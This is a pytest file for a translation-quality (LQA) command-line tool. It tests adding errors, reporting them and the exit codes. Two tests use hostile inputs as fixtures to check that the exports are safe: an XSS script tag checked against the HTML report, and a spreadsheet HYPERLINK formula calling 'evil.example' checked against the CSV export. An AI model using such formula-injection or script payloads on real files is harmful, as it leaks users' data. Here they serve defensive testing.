"""``workbench lqa``: add, list, remove, settings, categories and the report in every format,
with its exit codes."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from tests.conftest import run_cli
from tests.lqa.test_project_lqa import _joined_pair


def lqa(db: Path, *args: str):  # type: ignore[no-untyped-def]
    return run_cli("lqa", *args, "--db", str(db))


def test_add_list_remove(in_tmp: Path, sample_db: Path) -> None:
    added = lqa(sample_db, "add", "3", "--category", "accuracy/mistranslation",
                "--severity", "major", "--span", "0:14", "--comment", "not what it says")
    assert added.exit_code == 0, added.stderr
    assert "#1" in added.stdout and "'The revolution'" in added.stdout
    assert lqa(sample_db, "add", "5", "--category", "fluency/spelling",
               "--severity", "minor").exit_code == 0
    listed = json.loads(lqa(sample_db, "list", "--format", "json").stdout)
    assert [(e["id"], e["category"], e["severity"], e["span"]) for e in listed] == [
        (1, "accuracy/mistranslation", "major", [0, 14]),
        (2, "linguistic-conventions/spelling", "minor", None),
    ]
    assert listed[0]["quote"] == "The revolution" and listed[0]["weight"] == 5.0
    assert "(2 segments, 2 errors," in lqa(sample_db, "report").stdout
    assert lqa(sample_db, "remove", "1").exit_code == 0
    assert "(1 segment, 1 error," in lqa(sample_db, "report").stdout  # not "1 errors"
    table = lqa(sample_db, "list")
    assert "#2" in table.stdout and "#1" not in table.stdout
    assert [e["id"] for e in json.loads(lqa(sample_db, "list", "--segment", "5",
                                            "--format", "json").stdout)] == [2]


def test_bad_input_exits_two_with_one_line(in_tmp: Path, sample_db: Path) -> None:
    for args, message in [
        (("add", "3", "--category", "accuracy/foo", "--severity", "major"), "unknown LQA category"),
        (("add", "3", "--category", "style", "--severity", "awful"), "unknown LQA severity"),
        (("add", "3", "--category", "style", "--severity", "minor", "--span", "9:2"),
         "span 9:2 marks no English (its end must come after its start"),
        (("add", "3", "--category", "style", "--severity", "minor", "--span", "x"), "START:END"),
        (("add", "3", "--category", "style", "--severity", "minor", "--span", "\u00b2:3"),
         "START:END"),  # a superscript two is a digit to isdigit(), not to int(): exit 70
        (("add", "999", "--category", "style", "--severity", "minor"), "no segment 999"),
        (("remove", "42"), "no LQA error 42"),
        (("report", "--segments", "9-1"), "not a range"),
        (("report", "--segments", "22-30"), "has no segment numbered 22-30 (it has 21)"),
        (("report", "--segments", "4,52"), "has no segment numbered 52 (it has 21)"),
        (("report", "--segments", "1-40,52"), "has no segment numbered 1-40,52 (it has 21)"),
        (("settings", "--weight", "minor=inf"), "a number from 0 to 10,000"),
        (("settings", "--weight", "minor=1e308"), "a number from 0 to 10,000"),  # overflowed
        (("settings", "--weight", "major"), "SEVERITY=NUMBER"),
        (("settings", "--threshold", "120"), "between 0 and 100"),
    ]:
        result = lqa(sample_db, *args)
        assert result.exit_code == 2, (args, result.stdout)
        assert message in result.stderr, (args, result.stderr)
        assert "Traceback" not in result.stderr


def test_report_exit_codes(in_tmp: Path, sample_db: Path) -> None:
    nothing = lqa(sample_db, "report")
    assert nothing.exit_code == 0 and "no words evaluated" in nothing.stdout
    for position in ("4", "5", "6", "7"):
        assert run_cli("lqa", "add", position, "--category", "style", "--severity", "neutral",
                       "--db", str(sample_db)).exit_code == 0
    passing = lqa(sample_db, "report")
    assert passing.exit_code == 0 and "score 100.00" in passing.stdout and "PASS" in passing.stdout
    lqa(sample_db, "add", "4", "--category", "accuracy/omission", "--severity", "major")
    failing = lqa(sample_db, "report")
    assert failing.exit_code == 1 and "FAIL" in failing.stdout
    assert lqa(sample_db, "settings", "--threshold", "50").exit_code == 0
    assert lqa(sample_db, "report").exit_code == 0
    settings = json.loads(lqa(sample_db, "settings", "--format", "json").stdout)
    assert settings == {"weights": {"neutral": 0.0, "minor": 1.0, "major": 5.0,
                                    "critical": 25.0}, "threshold": 50.0}


def test_report_formats(in_tmp: Path, sample_db: Path) -> None:
    lqa(sample_db, "add", "3", "--category", "style/awkward", "--severity", "minor",
        "--span", "0:3", "--comment", "<script>alert('x')</script> & co")
    data = json.loads(lqa(sample_db, "report", "--format", "json").stdout)
    assert {"score", "words", "penalty", "threshold", "pass", "by_category", "by_severity",
            "errors"} <= set(data)
    assert data["penalty"] == 1.0 and data["pass"] is False
    assert data["errors"][0]["comment"] == "<script>alert('x')</script> & co"
    rows = list(csv.DictReader(io.StringIO(lqa(sample_db, "report", "--format", "csv").stdout)))
    assert [(r["line"], r["category"], r["severity"], r["quote"]) for r in rows] == [
        ("3", "style/awkward", "minor", "The"),
    ]
    out = in_tmp / "lqa.html"
    written = lqa(sample_db, "report", "--format", "html", "--output", str(out))
    assert written.exit_code == 1 and written.stdout == "" and "wrote html" in written.stderr
    page = out.read_text(encoding="utf-8")
    assert page.startswith("<!DOCTYPE html>") and "<script>" not in page
    assert "&lt;script&gt;" in page and "&amp; co" in page and "<mark>The</mark>" in page
    table = lqa(sample_db, "report")
    assert "Style" in table.stdout and "By translator" in table.stdout
    text = in_tmp / "lqa.txt"
    assert lqa(sample_db, "report", "--output", str(text)).exit_code == 1
    written_table = text.read_text(encoding="utf-8")  # the tables, as on the screen
    assert "Style" in written_table and "By translator" in written_table
    assert written_table.rstrip().endswith(table.stdout.rstrip().splitlines()[-1])


def test_categories(in_tmp: Path) -> None:
    listed = json.loads(run_cli("lqa", "categories", "--format", "json").stdout)
    ids = [c["id"] for c in listed]
    assert ids[0] == "terminology" and "accuracy/mistranslation" in ids
    assert "  linguistic-conventions/spelling" in run_cli("lqa", "categories").stdout


def test_list_of_a_segment_of_another_document_is_refused(in_tmp: Path, sample_db: Path) -> None:
    """``lqa list --doc D --segment N`` with N in another document: an error, not N's list."""
    other = in_tmp / "other.txt"
    other.write_text("هذه وثيقة أخرى.\n", encoding="utf-8")
    assert run_cli("import", str(other), "--doc", "other", "--db", str(sample_db)).exit_code == 0
    assert lqa(sample_db, "add", "5", "--category", "style", "--severity", "minor").exit_code == 0
    refused = lqa(sample_db, "list", "--doc", "other", "--segment", "5")
    assert refused.exit_code == 2 and "segment 5 is not in document 'other'" in refused.stderr
    assert lqa(sample_db, "list", "--doc", "sample", "--segment", "5").exit_code == 0

def test_csv_report_is_safe_to_open_in_a_spreadsheet(in_tmp: Path, sample_db: Path) -> None:
    """A comment or quote that looks like a formula is not run by a spreadsheet, and the file
    starts with a BOM so that the Arabic and curly quotes are read as UTF-8."""
    lqa(sample_db, "add", "3", "--category", "style", "--severity", "minor", "--span", "0:3",
        "--comment", '=HYPERLINK("http://evil.example/?"&A1,"click")')
    lqa(sample_db, "add", "4", "--category", "style", "--severity", "minor",
        "--comment", "-2+3 ’quoted’ @once")
    rows = list(csv.DictReader(io.StringIO(lqa(sample_db, "report", "--format", "csv").stdout)))
    assert [r["comment"] for r in rows] == [
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'-2+3 ’quoted’ @once",
    ]
    assert rows[0]["quote"] == "The" and rows[0]["span_start"] == "0"
    out = in_tmp / "lqa.csv"
    assert lqa(sample_db, "report", "--format", "csv", "--output", str(out)).exit_code == 1
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfid,line,")
    assert list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig")))) == rows


def test_the_summary_is_one_line_at_any_width(in_tmp: Path, sample_db: Path) -> None:
    """The table's last line is the whole summary (it was wrapped at 80 columns)."""
    lqa(sample_db, "add", "3", "--category", "style", "--severity", "minor",
        "--comment", "x")
    last = lqa(sample_db, "report").stdout.rstrip("\n").splitlines()[-1]
    assert last.startswith("LQA ") and last.endswith("threshold 99: FAIL")


def test_html_report_sets_an_arabic_comment_right_to_left(in_tmp: Path, sample_db: Path) -> None:
    """A reviewer's comment in Arabic reads right to left in the HTML report (in the page's
    left-to-right cell its full stop went to the wrong end)."""
    comment = "الترجمة غير دقيقة."
    assert lqa(sample_db, "add", "3", "--category", "accuracy", "--severity", "minor",
               "--comment", comment).exit_code == 0
    out = in_tmp / "lqa.html"
    lqa(sample_db, "report", "--format", "html", "--output", str(out))
    assert f'<td dir="auto">{comment}</td>' in out.read_text(encoding="utf-8")


def test_the_report_table_cuts_no_figure_in_a_narrow_terminal(sample_db: Path) -> None:
    """In 40 columns the tables showed the words as '2…', the score '81…' and the result
    'F…' (rich's ellipsis); folded, every figure and name is there whole."""
    from rich.console import Console

    from workbench.cli.lqa import _table
    from workbench.project import Project

    with Project.open(sample_db) as project:
        project.lqa.add_error(3, "accuracy/mistranslation", "critical")
        report = project.lqa.report()
    buffer = io.StringIO()
    _table(report, Console(file=buffer, width=40, color_system=None))
    text = buffer.getvalue()
    assert "…" not in text
    people = text[text.index("By translator"):].splitlines()
    rows = [[c.strip() for c in line.split("│")[1:-1]] for line in people if line.startswith("│")]
    columns = ["".join(row[i] for row in rows) for i in range(7)]
    (person,) = report.by_translator()
    assert columns == [person["translator"], "1", str(report.words), "1", "25",
                       f"{report.score:.2f}", "FAIL"]


def test_add_on_a_joined_segment_records_on_the_segment_holding_its_english(
    in_tmp: Path, sample_db: Path
) -> None:
    """`lqa add N` on a joined segment stored the error on N with its empty English: listed
    and reported there without a quote or English, never outdated. It is recorded on the
    segment holding the English, and the command says so in one line."""
    first, second, _ = _joined_pair(sample_db)
    added = lqa(sample_db, "add", str(second), "--category", "accuracy/omission",
                "--severity", "minor")
    assert added.exit_code == 0, added.stderr
    assert added.stderr.strip() == (
        f"segment {second} is joined to segment {first}, whose English translates it: the "
        f"error is recorded on segment {first}")
    assert f"segment {first} (line 1)" in added.stdout
    listed = json.loads(lqa(sample_db, "list", "--doc", "pair", "--format", "json").stdout)
    assert [(e["segment"], e["translator"], e["outdated"]) for e in listed] == [
        (first, "ann", False)]
    joined = lqa(sample_db, "list", "--segment", str(second))  # none of its own: says where
    assert joined.exit_code == 0 and joined.stdout == ""
    assert f"its errors are listed under segment {first} (workbench lqa list --segment " \
        f"{first})" in joined.stderr
    plain = lqa(sample_db, "add", str(first), "--category", "style", "--severity", "minor")
    assert plain.exit_code == 0 and plain.stderr == ""
